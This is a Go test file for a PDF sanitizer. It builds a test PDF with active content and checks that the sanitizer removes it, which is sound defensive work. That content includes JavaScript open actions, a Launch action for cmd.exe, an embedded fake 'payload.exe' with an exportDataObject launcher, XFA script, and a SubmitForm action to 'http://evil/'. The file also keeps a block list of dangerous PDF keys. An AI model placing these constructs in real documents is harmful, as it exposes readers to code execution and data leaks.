package cdr

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
)

// pdfBuild assembles a classic PDF (objects 1..n, catalog 1) with a
// correct cross-reference table.
func pdfBuild(objs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

func pdfStream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

const pdfPage1Text = "BT /F1 24 Tf 72 700 Td (Hello Sanitizer) Tj ET"
const pdfPage2Text = "BT /F1 12 Tf 72 700 Td (Second page text) Tj ET"

// pdfMalicious has one of each kind of active content.
func pdfMalicious() []byte {
	return pdfBuild(
		// 1 catalog
		`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >>
   /Names << /JavaScript 7 0 R /EmbeddedFiles 8 0 R >>
   /AcroForm << /Fields [] /XFA 11 0 R >> /NeedsRendering true >>`,
		// 2 page tree
		`<< /Type /Pages /Kids [3 0 R 12 0 R] /Count 2 >>`,
		// 3 page 1: page-level /AA, three annotations
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R
   /Resources << /Font << /F1 13 0 R >> >>
   /AA << /O << /S /JavaScript /JS (app.alert\('page open'\)) >> >>
   /Annots [14 0 R 15 0 R 16 0 R] >>`,
		// 4
		pdfStream("", pdfPage1Text),
		// 5 open action
		`<< /Type /Action /S /JavaScript /JS (app.alert\('open'\);) >>`,
		// 6 catalog AA action with the script in a stream
		`<< /S /JavaScript /JS 17 0 R >>`,
		// 7 JavaScript name tree
		`<< /Names [(evil) 18 0 R] >>`,
		// 8 EmbeddedFiles name tree
		`<< /Names [(payload.exe) 9 0 R] >>`,
		// 9 file spec
		`<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 10 0 R >> >>`,
		// 10
		pdfStream("/Type /EmbeddedFile", "MZ fake payload"),
		// 11 XFA
		pdfStream("", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox('x')</script></xdp:xdp>`),
		// 12 page 2
		`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 19 0 R
   /Resources << /Font << /F1 13 0 R >> >> /Annots [20 0 R] >>`,
		// 13
		`<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
		// 14 Launch link
		`<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /Launch /F (cmd.exe) >> >>`,
		// 15 harmless link, kept
		`<< /Type /Annot /Subtype /Link /Rect [72 560 200 580] /A << /S /URI /URI (https://example.com/) >> >>`,
		// 16 file attachment annotation
		`<< /Type /Annot /Subtype /FileAttachment /Rect [72 500 90 520] /FS 9 0 R >>`,
		// 17
		pdfStream("", "app.alert('will close')"),
		// 18
		`<< /S /JavaScript /JS (this.exportDataObject\({cName: 'payload.exe', nLaunch: 2}\)) >>`,
		// 19
		pdfStream("", pdfPage2Text),
		// 20 javascript: URI link whose action goes on to a SubmitForm
		`<< /Type /Annot /Subtype /Link /Rect [72 600 200 620]
   /A << /S /URI /URI (javascript:alert\(1\)) >> /AA << /E << /S /SubmitForm /F (http://evil/) >> >> >>`,
	)
}

func pdfClean(pages int, text string) []byte {
	objs := []string{
		`<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R >>`,
		"", // page tree, filled in below
		`<< /Type /Outlines /Count 0 >>`,
		`<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
	}
	var kids []string
	for i := range pages {
		page := len(objs) + 1
		kids = append(kids, fmt.Sprintf("%d 0 R", page))
		objs = append(objs,
			fmt.Sprintf(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 4 0 R >> >> >>`, page+1),
			pdfStream("", fmt.Sprintf("BT /F1 12 Tf 72 720 Td (Page %d) Tj ET\n%s", i+1, text)))
	}
	objs[1] = fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), pages)
	return pdfBuild(objs...)
}

func pdfSanitize(t testing.TB, in []byte) ([]byte, Result) {
	t.Helper()
	s, ok := For("application/pdf")
	if !ok {
		t.Fatal("no sanitizer registered for application/pdf")
	}
	var out bytes.Buffer
	res, err := s.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), &out)
	if err != nil {
		t.Fatalf("Sanitize: %v", err)
	}
	return out.Bytes(), res
}

// pdfRead reads and validates b with pdfcpu (relaxed) and decodes every object.
func pdfRead(t testing.TB, b []byte) *model.Context {
	t.Helper()
	ctx, err := pdfcpu.Read(bytes.NewReader(b), pdfConfig(DefaultMemoryBudget))
	if err != nil {
		t.Fatalf("read output: %v", err)
	}
	if err := api.ValidateContext(ctx); err != nil {
		t.Fatalf("validate output: %v", err)
	}
	for n, e := range ctx.Table {
		if e == nil || e.Free || e.Object == nil {
			continue
		}
		if _, err := ctx.Dereference(*types.NewIndirectRef(n, 0)); err != nil {
			t.Fatalf("object %d: %v", n, err)
		}
	}
	return ctx
}

// pdfWalk calls name for every dictionary key and name object and data
// for every decoded stream in the table.
func pdfWalk(t testing.TB, ctx *model.Context, name func(string), data func([]byte)) {
	t.Helper()
	var walk func(o types.Object)
	walk = func(o types.Object) {
		switch o := o.(type) {
		case types.Name:
			name(string(o))
		case types.Dict:
			for k, v := range o {
				name(k)
				walk(v)
			}
		case types.Array:
			for _, v := range o {
				walk(v)
			}
		case types.StreamDict:
			walk(o.Dict)
			if err := o.Decode(); err != nil {
				t.Fatalf("decode stream: %v", err)
			}
			data(o.Content)
		case types.ObjectStreamDict:
			// Its objects are table entries of their own.
		}
	}
	for _, e := range ctx.Table {
		if e != nil && !e.Free {
			walk(e.Object)
		}
	}
}

func pdfPageContent(t testing.TB, ctx *model.Context, page int) string {
	t.Helper()
	r, err := pdfcpu.ExtractPageContent(ctx, page)
	if err != nil {
		t.Fatalf("page %d content: %v", page, err)
	}
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func pdfCheckClean(t *testing.T, out []byte) *model.Context {
	t.Helper()
	ctx := pdfRead(t, out)
	bad := map[string]bool{"JavaScript": true, "JS": true, "OpenAction": true, "Launch": true, "AA": true,
		"EmbeddedFile": true, "EmbeddedFiles": true, "EF": true, "XFA": true, "FileAttachment": true,
		"SubmitForm": true, "NeedsRendering": true}
	var sawURI bool
	pdfWalk(t, ctx, func(n string) {
		if bad[n] {
			t.Errorf("output still has /%s", n)
		}
		if n == "URI" {
			sawURI = true
		}
	}, func(b []byte) {
		for _, s := range []string{"app.alert", "MZ fake payload", "xdp:xdp", "exportDataObject"} {
			if bytes.Contains(b, []byte(s)) {
				t.Errorf("output still has stream with %q", s)
			}
		}
	})
	if !sawURI {
		t.Error("https link was removed")
	}
	for _, s := range []string{"app.alert", "cmd.exe", "javascript:", "payload.exe", "evil"} {
		if bytes.Contains(out, []byte(s)) {
			t.Errorf("raw output contains %q", s)
		}
	}
	if ctx.PageCount != 2 {
		t.Errorf("page count %d, want 2", ctx.PageCount)
	}
	if c := pdfPageContent(t, ctx, 1); !strings.Contains(c, "(Hello Sanitizer) Tj") {
		t.Errorf("page 1 content lost: %q", c)
	}
	if c := pdfPageContent(t, ctx, 2); !strings.Contains(c, "(Second page text) Tj") {
		t.Errorf("page 2 content lost: %q", c)
	}
	return ctx
}

func TestPDFSanitizeMalicious(t *testing.T) {
	in := pdfMalicious()
	// The input itself must be readable, and hold what we look for.
	if _, err := pdfcpu.Read(bytes.NewReader(in), pdfConfig(DefaultMemoryBudget)); err != nil {
		t.Fatalf("test input: %v", err)
	}
	out, res := pdfSanitize(t, in)
	if res.Action != Sanitized || res.ConvertedTo != "pdf" {
		t.Errorf("result %+v", res)
	}
	for _, want := range []string{pdfLabelJavaScript, pdfLabelOpenAction, pdfLabelAA, pdfLabelLaunch,
		pdfLabelEmbedded, pdfLabelXFA, pdfLabelURI, pdfLabelAttachment, pdfLabelSubmitForm} {
		if !slices.Contains(res.Removed, want) {
			t.Errorf("Removed %q missing: %q", want, res.Removed)
		}
	}
	pdfCheckClean(t, out)

	// Sanitizing the output again finds nothing more.
	_, res2 := pdfSanitize(t, out)
	if len(res2.Removed) != 0 {
		t.Errorf("second pass removed %q", res2.Removed)
	}
}

// The same document rewritten by pdfcpu: objects packed in compressed
// object streams with an xref stream.
func TestPDFSanitizeObjectStreams(t *testing.T) {
	ctx, err := pdfcpu.Read(bytes.NewReader(pdfMalicious()), pdfConfig(DefaultMemoryBudget))
	if err != nil {
		t.Fatal(err)
	}
	if err := api.ValidateContext(ctx); err != nil {
		t.Fatal(err)
	}
	var packed bytes.Buffer
	if err := api.WriteContext(ctx, &packed); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(packed.Bytes(), []byte("/ObjStm")) {
		t.Fatal("expected object streams in the repacked input")
	}
	if bytes.Contains(packed.Bytes(), []byte("/Launch")) {
		t.Fatal("expected the annotations in compressed object streams")
	}
	out, res := pdfSanitize(t, packed.Bytes())
	if !slices.Contains(res.Removed, pdfLabelJavaScript) || !slices.Contains(res.Removed, pdfLabelEmbedded) {
		t.Errorf("Removed %q", res.Removed)
	}
	pdfCheckClean(t, out)
}

func TestPDFSanitizeClean(t *testing.T) {
	in := pdfClean(3, "BT /F1 12 Tf 72 700 Td (plain text) Tj ET")
	out, res := pdfSanitize(t, in)
	if res.Action != Sanitized || res.ConvertedTo != "pdf" || len(res.Removed) != 0 {
		t.Errorf("result %+v", res)
	}
	ctx := pdfRead(t, out)
	if ctx.PageCount != 3 {
		t.Errorf("page count %d, want 3", ctx.PageCount)
	}
	if c := pdfPageContent(t, ctx, 3); !strings.Contains(c, "(Page 3) Tj") || !strings.Contains(c, "(plain text) Tj") {
		t.Errorf("page 3 content: %q", c)
	}
}

func TestPDFSanitizeEncrypted(t *testing.T) {
	api.DisableConfigDir() // pdfcpu's api would otherwise create ~/.config/pdfcpu
	encrypt := func(upw string) []byte {
		t.Helper()
		var b bytes.Buffer
		conf := model.NewAESConfiguration(upw, "owner-secret", 256)
		if err := api.Encrypt(bytes.NewReader(pdfMalicious()), &b, conf); err != nil {
			t.Fatalf("encrypt: %v", err)
		}
		return b.Bytes()
	}

	out, res := pdfSanitize(t, encrypt(""))
	if !slices.Contains(res.Removed, pdfLabelEncryption) || !slices.Contains(res.Removed, pdfLabelJavaScript) {
		t.Errorf("Removed %q", res.Removed)
	}
	ctx := pdfCheckClean(t, out)
	if ctx.Encrypt != nil {
		t.Error("output still encrypted")
	}

	in := encrypt("user-secret")
	_, err := PDFSanitizer{}.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), io.Discard)
	if !errors.Is(err, ErrPDFEncrypted) {
		t.Errorf("password-protected: err %v, want ErrPDFEncrypted", err)
	}
}

func TestPDFSanitizeErrors(t *testing.T) {
	for name, in := range map[string][]byte{
		"garbage": bytes.Repeat([]byte("not a pdf at all \x00\xff"), 100),
		"header":  []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog"),
		"prefix":  pdfMalicious()[:20],
	} {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			_, err := PDFSanitizer{}.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), &out)
			if err == nil {
				t.Fatal("no error")
			}
		})
	}
	_, err := PDFSanitizer{}.Sanitize(context.Background(), bytes.NewReader(nil), DefaultMemoryBudget+1, io.Discard)
	if !errors.Is(err, ErrPDFTooLarge) {
		t.Errorf("oversize: %v", err)
	}
	_, err = PDFSanitizer{}.Sanitize(context.Background(), bytes.NewReader(nil), 0, io.Discard)
	if err == nil {
		t.Error("empty: no error")
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	in := pdfMalicious()
	if _, err := (PDFSanitizer{}).Sanitize(ctx, bytes.NewReader(in), int64(len(in)), io.Discard); err == nil {
		t.Error("cancelled: no error")
	}
}

func TestPDFSanitizeConcurrent(t *testing.T) {
	in := pdfMalicious()
	var wg sync.WaitGroup
	errs := make(chan error, 4)
	for range 4 {
		wg.Go(func() {
			var out bytes.Buffer
			_, err := PDFSanitizer{}.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), &out)
			errs <- err
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Error(err)
		}
	}
}

// pdfBenchInput is a ~10 MB text-only PDF.
func pdfBenchInput() []byte {
	var text strings.Builder
	for i := range 60 {
		fmt.Fprintf(&text, "BT /F1 10 Tf 72 %d Td (Line %d of body text for throughput measurement, lorem ipsum dolor sit amet.) Tj ET\n", 700-i*11, i)
	}
	return pdfClean(1400, text.String())
}

func BenchmarkPDFSanitize(b *testing.B) {
	in := pdfBenchInput()
	mb := float64(len(in)) / 1e6
	b.Logf("input %.1f MB", mb)

	// Same-run baseline: pdfcpu read + validate + write, no changes.
	var base time.Duration
	for range 3 {
		start := time.Now()
		ctx, err := pdfcpu.Read(bytes.NewReader(in), pdfConfig(DefaultMemoryBudget))
		if err != nil {
			b.Fatal(err)
		}
		if err := api.ValidateContext(ctx); err != nil {
			b.Fatal(err)
		}
		if err := api.WriteContext(ctx, io.Discard); err != nil {
			b.Fatal(err)
		}
		if d := time.Since(start); base == 0 || d < base {
			base = d
		}
	}

	s := PDFSanitizer{}
	b.SetBytes(int64(len(in)))
	b.ResetTimer()
	for b.Loop() {
		if _, err := s.Sanitize(context.Background(), bytes.NewReader(in), int64(len(in)), io.Discard); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(mb/base.Seconds(), "baseline-MB/s")
}
